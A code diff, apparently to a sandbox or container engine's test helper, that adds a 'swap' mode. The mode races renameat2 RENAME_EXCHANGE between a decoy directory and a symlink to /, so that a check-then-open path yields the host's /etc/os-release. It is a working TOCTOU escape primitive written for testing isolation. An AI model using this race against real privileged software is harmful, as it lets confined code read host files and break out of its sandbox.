@@ -19,7 +19,9 @@
 #include <sys/ioctl.h>
 #include <sys/ptrace.h>
 #include <sys/syscall.h>
+#include <sys/stat.h>
 #include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 static void
@@ -162,6 +164,33 @@ attack_proc (void)
   report ("sysrq-trigger", fd >= 0);
 }
 
+/* Swaps /home/user/real (a directory holding etc/os-release = "decoy") with /home/user/link
+ * (a symlink to /) over and over, for @seconds at most: an engine that opens by path after
+ * checking it hands out the host's /etc/os-release now and then. */
+static void
+attack_swap (const char *seconds)
+{
+  time_t until = time (NULL) + atoi (seconds);
+  unsigned long n = 0;
+  int fd;
+
+  mkdir ("/home/user/real", 0755);
+  mkdir ("/home/user/real/etc", 0755);
+  fd = open ("/home/user/real/etc/os-release", O_WRONLY | O_CREAT | O_TRUNC, 0644);
+  if (fd < 0 || write (fd, "decoy", 5) != 5)
+    return;
+  close (fd);
+  unlink ("/home/user/link");
+  if (symlink ("/", "/home/user/link") != 0)
+    return;
+  printf ("swapping\n");
+  fflush (stdout);
+  while (time (NULL) < until)
+    for (int i = 0; i < 1000; i++, n++)
+      syscall (SYS_renameat2, AT_FDCWD, "/home/user/real", AT_FDCWD, "/home/user/link", 2 /* RENAME_EXCHANGE */);
+  printf ("swaps:%lu\n", n);
+}
+
 int
 main (int    argc,
       char **argv)
@@ -172,6 +201,8 @@ main (int    argc,
     attack_syscalls ();
   else if (argc >= 3 && strcmp (argv[1], "handle") == 0)
     attack_handle (argv[2]);
+  else if (argc >= 3 && strcmp (argv[1], "swap") == 0)
+    attack_swap (argv[2]);
   else if (argc >= 2 && strcmp (argv[1], "proc") == 0)
     attack_proc ();
   else
